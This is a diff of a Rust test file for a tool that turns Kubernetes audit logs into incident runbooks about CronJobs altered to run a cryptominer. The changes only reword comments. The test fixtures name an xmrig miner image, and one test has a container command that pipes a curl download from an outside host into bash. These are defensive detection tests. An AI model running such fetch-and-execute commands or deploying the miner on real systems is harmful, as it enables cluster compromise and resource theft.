@@ -1,4 +1,4 @@
-//! The runbook where requests fail, are dry runs, or say what is not so: only what took effect counts.
+//! The runbook for requests that fail, are dry runs, or make false claims: only what took effect counts.
 
 use std::fmt::Write;
 
@@ -11,7 +11,7 @@ const JOBS: &str = "system:serviceaccount:kube-system:job-controller";
 const FINE: &str = "registry.example.com/report:1";
 const MINER: &str = "docker.io/x/xmrig";
 
-/// A request on the CronJob `b`, so many minutes into 2026-05-01; `more` goes over what is common.
+/// A request on the CronJob `b`, `minute` minutes into 2026-05-01; members of `more` replace the default ones.
 fn request(minute: i64, verb: &str, user: &str, more: &Value) -> Value {
     let start: jiff::Timestamp = "2026-05-01T00:00:00Z".parse().unwrap();
     let time = start.checked_add(jiff::SignedDuration::from_mins(minute)).unwrap();
@@ -45,7 +45,7 @@ fn asked(body: &Value) -> Value {
     json!({"requestObject": body})
 }
 
-/// The Job that the controller makes at a minute, 29,626,560 minutes behind 1970, but for what `more` says.
+/// The Job that the controller makes at a minute (29,626,560 minutes after 1970), with members of `more` replaced.
 fn job(minute: i64, user: &str, image: &str, more: &Value) -> Value {
     let name = more["name"].as_str().map_or_else(|| format!("b-{}", 29_626_560 + minute), str::to_owned);
     let owner = if more["owner"] == false { json!([]) } else { json!([{"kind": "CronJob", "name": "b"}]) };
@@ -86,7 +86,7 @@ fn judged(events: &[Value], options: &[&str]) -> Value {
     serde_json::from_str(&run.stdout).unwrap()
 }
 
-/// Of the alert of a user: verdict, level, image, source of the spec.
+/// For the alert of a user: verdict, level, image, source of the spec.
 fn verdict(runbook: &Value, user: &str) -> [String; 4] {
     let page = page(runbook, user);
     let text = |value: &Value| value.as_str().unwrap_or_default().to_owned();
@@ -123,7 +123,7 @@ fn a_patch_with_all_that_a_whole_one_must_have_is_a_patch() {
     let found = judged(&[request(60, "patch", "bob", &asked(&patch))], &[]);
     assert_eq!(verdict(&found, "bob")[1..3], ["S3", MINER]);
 
-    // Server-side apply sends a whole one.
+    // Server-side apply sends a whole object.
     let found = judged(&[request(60, "patch", "bob", &asked(&whole(MINER)))], &[]);
     assert_eq!(verdict(&found, "bob")[2..], [MINER, "requestObject"]);
 }
@@ -151,7 +151,7 @@ fn only_what_took_effect_shows_a_state() {
     assert_eq!(bob["cronjobs"][0]["diff"].as_array().unwrap().len(), 1, "{}", bob["cronjobs"][0]["diff"]);
     assert_eq!(bob["red_flags"], json!([]));
 
-    // The API server ignores what a status update says beside the status.
+    // The API server ignores everything but the status in a status update.
     let forged = [
         request(0, "create", "argo", &asked(&whole(MINER))),
         request(60, "update", "eve", &status(200, &one)),
@@ -242,7 +242,7 @@ fn the_end_of_a_cronjob_is_what_the_log_says_of_it() {
     assert!(!page(&found, "eve")["next"].to_string().contains("delete cronjob"));
 }
 
-/// A miner that somebody sets back runs no longer, and the Jobs after that are not its own.
+/// A miner that somebody reverts no longer runs, and later Jobs are not its own.
 #[test]
 fn a_spec_is_in_force_until_a_later_write_changes_what_runs() {
     let update = |minute, user: &str, body: &Value| request(minute, "update", user, &asked(body));
@@ -276,7 +276,7 @@ fn a_spec_is_in_force_until_a_later_write_changes_what_runs() {
     assert!(text.contains("no delete logged: probably still there"), "{text}");
 }
 
-/// What others rely on is stopped and put back; nothing tells to delete it, least of all once it is set back.
+/// What others rely on is suspended and restored; no step says to delete it, least of all once it is reverted.
 #[test]
 fn next_steps_fit_what_became_of_the_cronjob() {
     let update = |minute, user: &str, body: &Value| request(minute, "update", user, &asked(body));
@@ -301,7 +301,7 @@ fn next_steps_fit_what_became_of_the_cronjob() {
     assert_eq!(judged(&[request(0, "create", "eve", &refused)], &[])["alerts"], json!([]));
 }
 
-/// A spec that still holds what was put in is not what ran before.
+/// A spec that still contains part of the change is not what ran before.
 #[test]
 fn a_partial_revert_is_no_way_back() {
     let update = |minute, user: &str, body: &Value| request(minute, "update", user, &asked(body));
@@ -318,7 +318,7 @@ fn a_partial_revert_is_no_way_back() {
     assert!(since(&whole(FINE)).contains("(image, pod template, back to what ran before)"), "{}", since(&whole(FINE)));
 }
 
-/// One of a kind that is graver than many stands before them, wherever it stands in time.
+/// A single alert that is graver than many alike comes before them, whenever it happened.
 #[test]
 fn the_gravest_of_a_verdict_comes_first_and_what_is_alike_is_folded() {
     let script = json!({"containers": [{"name": "c", "image": FINE, "command": ["sh", "-c", "curl -s https://x.example.net/p | bash"]}]});
@@ -353,7 +353,7 @@ fn the_gravest_of_a_verdict_comes_first_and_what_is_alike_is_folded() {
     assert!(!run.stderr.contains("report.html") && !run.stderr.contains(".csv"), "{}", run.stderr);
 }
 
-/// The history of a session is not that of all who share its role.
+/// The history of a session is not that of everybody who shares its role.
 #[test]
 fn a_session_without_history_is_told_from_its_user() {
     let by = |minute, session: &str, body: &Value| {
@@ -369,7 +369,7 @@ fn a_session_without_history_is_told_from_its_user() {
     );
 }
 
-/// What an earlier or later request proves leads to that one.
+/// A finding that another request proves names that request.
 #[test]
 fn reasons_lead_to_the_request_that_proves_them() {
     let refused = request(30, "create", "eve", &json!({"responseStatus": {"code": 403}}));
@@ -409,7 +409,7 @@ fn a_page_says_what_it_does_not_list() {
     assert_eq!(run.stdout.lines().count(), 25, "{}", run.stderr);
 }
 
-/// A gap before an alert is named on its page, and so is a creation that nobody logged.
+/// A gap before an alert is named on its page, and so is a creation that was not logged.
 #[test]
 fn what_the_dump_does_not_cover_is_named_where_it_matters() {
     let node = json!({"objectRef": {"resource": "nodes", "name": "n"}});
@@ -477,7 +477,7 @@ fn operations_that_cannot_be_repeated_leave_nothing_known() {
     assert_eq!(verdict(&found, "bob")[2..], [MINER, "patch alone"]);
 }
 
-/// Of two writes whose specs nobody logged nothing tells which one changed what runs.
+/// If the specs of two writes were not logged, nothing shows which one changed what runs.
 #[test]
 fn a_write_whose_spec_is_lost_hides_what_the_next_one_found() {
     let lost = |minute, user: &str| request(minute, "update", user, &json!({"level": "Metadata"}));
@@ -487,12 +487,12 @@ fn a_write_whose_spec_is_lost_hides_what_the_next_one_found() {
     assert_eq!((&what["diff"], &what["spec_source"]), (&json!([]), &json!("Job that the controller made")));
     assert!(!page(&found, "bob")["red_flags"].to_string().contains("CJ-BEH-10"));
     assert!(since(&found, "eve").contains("written again 2026-05-01T04:00:00Z by bob, and the log does not tell what"));
-    // Alone it is the one that changed it.
+    // With only one such write, it is the one that changed it.
     let found = judged(&[&[lost(240, "bob")][..], &jobs].concat(), &[]);
     assert_eq!(page(&found, "bob")["cronjobs"][0]["diff"].as_array().unwrap().len(), 1);
 }
 
-/// Server-side apply creates with a patch.
+/// Server-side apply creates objects with a patch.
 #[test]
 fn what_is_created_is_made_of_nothing_that_was_there() {
     let code = json!({"responseStatus": {"code": 201}, "requestObject": whole(FINE)});
@@ -500,7 +500,8 @@ fn what_is_created_is_made_of_nothing_that_was_there() {
     assert_eq!(verdict(&judged(&events, &[]), "bob")[2..], [FINE, "requestObject"]);
 }
 
-/// A creation proves that the one before was gone; what the log has of its end is a request that named none, or nothing.
+/// A creation proves that the object before was gone, even if the log shows of its end only a request that named no
+/// object, or nothing.
 #[test]
 fn a_creation_ends_what_was_created_before() {
     let create = |minute, user: &str| request(minute, "create", user, &asked(&whole(FINE)));
@@ -519,7 +520,7 @@ fn a_creation_ends_what_was_created_before() {
     assert!(!page(&lost, "argo")["next"].to_string().contains("delete the CronJob"), "{}", page(&lost, "argo")["next"]);
 }
 
-/// Else as many short patches as a log holds would leave as many long states.
+/// Otherwise many short patches would leave as many long states.
 #[test]
 fn patches_make_no_state_longer_than_they_may() {
     let create = request(0, "create", "argo", &asked(&whole(FINE)));
@@ -532,7 +533,7 @@ fn patches_make_no_state_longer_than_they_may() {
     assert_eq!([60_000, 70_000].map(grown), ["patch on the last known state", "patch alone"]);
 }
 
-/// Forty copies of what was copied would be a trillion, and a value freed by recursion must not lie 200,000 deep.
+/// Forty doublings would make a trillion, and a value freed by recursion must not nest 200,000 levels deep.
 #[test]
 fn patches_that_copy_what_they_copied_or_lie_too_deep_are_shown_alone() {
     let create = request(0, "create", "argo", &asked(&whole(FINE)));
